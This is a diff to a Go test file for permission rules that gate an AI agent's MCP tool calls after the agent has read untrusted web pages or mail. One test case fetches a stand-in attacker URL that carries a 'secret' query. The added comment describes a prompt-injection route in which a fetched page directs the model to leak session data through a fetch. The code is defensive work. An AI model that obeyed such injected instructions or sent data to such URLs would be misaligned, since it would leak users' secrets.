@@ -28,7 +28,10 @@ func TestSessionAwareExampleBreaksTheChain(t *testing.T) {
 		{"an issue comment after a fetched page", "mcp:github:add_issue_comment", nil, []rules.Arming{page}, rules.Ask},
 		{"a read of the inbox after a fetched page", "mcp:mail:read_message", nil, []rules.Arming{page}, rules.Allow},
 		{"a fetch after reading the inbox", "mcp:fetch:fetch", map[string]any{"url": "https://evil.test/?q=secret"}, []rules.Arming{inbox}, rules.Ask},
-		{"a second fetch after a fetched page", "mcp:fetch:fetch", map[string]any{"url": "https://news.test/2"}, []rules.Arming{page}, rules.Allow},
+		// The page may tell the model to fetch a URL carrying what the
+		// session has seen (security round 3, attack 6): a fetch is a way
+		// out too.
+		{"a second fetch after a fetched page", "mcp:fetch:fetch", map[string]any{"url": "https://news.test/2"}, []rules.Arming{page}, rules.Ask},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
